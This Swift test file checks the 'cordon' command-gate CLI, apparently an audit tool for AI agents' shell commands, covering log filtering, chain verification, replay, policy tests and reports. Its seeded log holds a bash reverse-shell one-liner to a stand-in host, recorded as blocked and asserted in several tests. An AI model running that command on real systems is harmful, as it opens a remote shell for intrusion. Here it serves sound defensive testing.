// End-to-end tests of the built `cordon` binary: exit codes, stdout, stderr, files.
import CordonBase
import CordonPolicy
import CordonTestSupport
import Glibc
import Testing

@testable import CordonAudit

func cordon(_ args: [String], env: [String: String] = [:]) -> ProcessResult {
    runProcess([cordonBinary()] + args, env: env)
}

/// A log with a known mix: agent-a tries a reverse shell (blocked) and lists files; agent-b asks
/// for an install (approval).
func seedLog(_ dir: String) {
    _ = cordon([
        "log", "append", "--log-dir", dir, "--decision", "allow", "--score", "3", "--agent", "agent-a", "--cmd",
        "ls -la",
    ])
    _ = cordon([
        "log", "append", "--log-dir", dir, "--decision", "block", "--score", "92", "--agent", "agent-a", "--rule",
        "reverse-shell",
        "--reason", "reverse shell via /dev/tcp", "--cmd", "bash -i >& /dev/tcp/203.0.113.7/4444 0>&1",
    ])
    _ = cordon([
        "log", "append", "--log-dir", dir, "--decision", "requires_approval", "--score", "65", "--agent", "agent-b",
        "--source", "monitor", "--cmd", "pip install requests",
    ])
}

@Suite("cordon log, verify, replay, test and report as commands", .timeLimit(.minutes(10)))
struct CLITests {
    @Test("filters answer 'what did agent X try, and what was blocked'")
    func filters() throws {
        let dir = makeTempDir()
        defer { removeTree(dir) }
        seedLog(dir)
        let all = cordon(["log", "--log-dir", dir])
        #expect(all.status == 0)
        #expect(all.stdout.split(separator: "\n").count == 3)
        let a = cordon(["log", "--log-dir", dir, "--agent", "agent-a", "--since", "1h", "--decision", "block"])
        #expect(a.stdout.split(separator: "\n").count == 1)
        #expect(a.stdout.contains("rule=reverse-shell"))
        #expect(cordon(["log", "--log-dir", dir, "--level", "high"]).stdout.split(separator: "\n").count == 2)
        #expect(cordon(["log", "--log-dir", dir, "--source", "monitor"]).stdout.contains("pip install"))
        #expect(cordon(["log", "--log-dir", dir, "--grep", "/dev/tcp"]).stdout.split(separator: "\n").count == 1)
        #expect(cordon(["log", "--log-dir", dir, "--until", "2000-01-01"]).stdout.isEmpty)
        let bad = cordon(["log", "--log-dir", dir, "--level", "severe"])
        #expect(bad.status == 64)
        #expect(bad.stderr.contains("cordon: error: --level severe: expected safe, low, medium, high or critical"))
    }

    @Test("--json gives one object per line and --stats the counts")
    func jsonAndStats() throws {
        let dir = makeTempDir()
        defer { removeTree(dir) }
        seedLog(dir)
        let j = cordon(["log", "--log-dir", dir, "--json", "--decision", "block"])
        let obj = try JSONValue.parse(j.stdout.trimmingNewline())
        #expect(obj["cmd"]?.stringValue == "bash -i >& /dev/tcp/203.0.113.7/4444 0>&1")
        #expect(obj["score"]?.intValue == 92)
        #expect(obj["reasons"] == .array([.string("reverse shell via /dev/tcp")]))
        let s = try JSONValue.parse(cordon(["log", "--log-dir", dir, "--stats", "--json"]).stdout.trimmingNewline())
        #expect(s["total"]?.intValue == 3)
        #expect(s["byAgent"]?["agent-a"]?.intValue == 2)
        #expect(s["topBlocked"]?[0]?["cmd"]?.stringValue == "bash -i >& /dev/tcp/203.0.113.7/4444 0>&1")
        let text = cordon(["log", "--log-dir", dir, "--stats"]).stdout
        #expect(text.hasPrefix("3 decisions from "))
        #expect(text.contains("top blocked commands:"))
    }

    @Test("CORDON_HOME chooses the log directory")
    func cordonHome() throws {
        let dir = makeTempDir()
        defer { removeTree(dir) }
        #expect(
            cordon(["log", "append", "--decision", "allow", "--cmd", "true"], env: ["CORDON_HOME": dir + "/home"])
                .status == 0)
        #expect(FileIO.exists(dir + "/home/gate.log"))
    }

    @Test("verify exits 0 on an intact log and 1 naming the first bad line")
    func verify() throws {
        let dir = makeTempDir()
        defer { removeTree(dir) }
        seedLog(dir)
        let ok = cordon(["log", "verify", "--log-dir", dir])
        #expect(ok.status == 0)
        #expect(ok.stdout == "ok: 3 lines in 1 file, chain intact\n")
        var lines = Array(readText(dir + "/gate.log").utf8).split(separator: 0x0a).map(Array.init)
        lines[1] = Array(
            String(decoding: lines[1], as: UTF8.self).replacingFirst("decision=block", "decision=allow").utf8)
        saveLines(dir + "/gate.log", lines)
        let bad = cordon(["log", "verify", dir + "/gate.log"])
        #expect(bad.status == 1)
        #expect(
            bad.stderr
                == "cordon: error: \(dir)/gate.log:2: chain mismatch: this line was edited, or the line before it was dropped\n"
        )
    }

    @Test("an unwritable log directory fails closed with exit 125 naming the directory")
    func unwritable() throws {
        let dir = makeTempDir()
        defer { removeTree(dir) }
        writeText(dir + "/file", "")
        let r = cordon(["log", "append", "--log-dir", dir + "/file/sub", "--decision", "allow"])
        #expect(r.status == 125)
        #expect(r.stderr.contains("cordon: error: create log directory \(dir)/file/sub: "))
    }

    @Test("garbage in gate.log is reported with file and line, and the good lines still print")
    func garbageLines() throws {
        let dir = makeTempDir()
        defer { removeTree(dir) }
        seedLog(dir)
        let fd = open(dir + "/gate.log", O_WRONLY | O_APPEND)
        _ = [0x00, 0xff, 0x41, 0x0a].withUnsafeBytes { (b: UnsafeRawBufferPointer) in FileIO.writeAll(fd, b) }
        close(fd)
        let r = cordon(["log", "--log-dir", dir])
        #expect(r.status == 1)
        #expect(r.stdout.split(separator: "\n").count == 3)
        #expect(r.stderr.contains("\(dir)/gate.log:4:1: "))
    }

    @Test("replay reads traces and gate.log, and refuses files that are neither")
    func replay() throws {
        let dir = makeTempDir()
        defer { removeTree(dir) }
        let rec = try recordSampleRun(dir)
        let r = cordon(["replay", rec.tracePath, dir + "/gate.log", "--json"])
        #expect(r.status == 0, "\(r.stderr)")
        let j = try JSONValue.parse(r.stdout.trimmingNewline())
        #expect(j["total"]?.intValue == 4)
        // A directory stands for its traces.
        let fromDir = cordon(["replay", dir + "/traces", "--json"])
        #expect(fromDir.status == 0)
        #expect(try JSONValue.parse(fromDir.stdout.trimmingNewline())["total"]?.intValue == 2)
        let neither = cordon(["replay", "/etc/hostname"])
        #expect(neither.status == 65)
        #expect(neither.stderr.contains("/etc/hostname:1: neither a JSON trace nor a gate.log"))
        writeText(
            dir + "/v9.jsonl", #"{"v":9,"ts":"2026-11-21T12:00:00.000Z","run":"r-1","seq":0,"type":"decision"}"# + "\n")
        let v9 = cordon(["replay", dir + "/v9.jsonl"])
        #expect(v9.status == 65)
        #expect(v9.stderr.contains("\(dir)/v9.jsonl:1: unknown trace version v=9; this cordon reads v=1"))
    }

    @Test("replay --fail-on-change exits 1 when a recorded decision changes")
    func failOnChange() throws {
        let dir = makeTempDir()
        defer { removeTree(dir) }
        // Recorded as a block; the default policy's gate scores `ls -la` as allow.
        _ = cordon(["log", "append", "--log-dir", dir, "--decision", "block", "--score", "90", "--cmd", "ls -la"])
        let r = cordon(["replay", dir + "/gate.log", "--fail-on-change"])
        #expect(r.status == 1)
        #expect(r.stdout.contains("1 changed:"))
        #expect(r.stdout.contains("block  ->  allow"))
        #expect(cordon(["replay", dir + "/gate.log"]).status == 0)
    }

    @Test("cordon test prints a runner's summary and exits 1 on a failing case")
    func policyTests() throws {
        let dir = makeTempDir()
        defer { removeTree(dir) }
        writeText(
            dir + "/t.yaml",
            """
            policy: default
            cases:
              - command: ls -la
                expect: allow
              - name: this case is wrong on purpose
                command: ls
                expect: block
            """)
        let r = cordon(["test", dir + "/t.yaml"])
        #expect(r.status == 1)
        #expect(r.stdout.contains("  ok   ls -la\n"))
        #expect(r.stdout.contains("  FAIL this case is wrong on purpose\n         expected block, got allow\n"))
        #expect(r.stdout.contains("at \(dir)/t.yaml:5:5"))
        #expect(r.stdout.hasSuffix("\n1 passed, 1 failed\n"))
        writeText(dir + "/bad.yaml", "policy: default\ncases:\n  - command: ls\n    expekt: allow\n")
        let bad = cordon(["test", dir + "/bad.yaml"])
        #expect(bad.status == 78)
        #expect(bad.stderr.contains("\(dir)/bad.yaml:4:13: unknown key 'expekt'"))
    }

    @Test("cordon report writes one HTML file")
    func report() throws {
        let dir = makeTempDir()
        defer { removeTree(dir) }
        let rec = try recordSampleRun(dir)
        let r = cordon(["report", rec.tracePath, "--output", dir + "/r.html"])
        #expect(r.status == 0)
        #expect(readText(dir + "/r.html").contains("cordon run report"))
        writeText(dir + "/torn.jsonl", #"{"v":1,"ts":"#)
        let torn = cordon(["report", dir + "/torn.jsonl"])
        #expect(torn.status == 65)
        #expect(torn.stderr.contains("no events"))
    }
}

extension String {
    func trimmingNewline() -> String { hasSuffix("\n") ? String(dropLast()) : self }
}
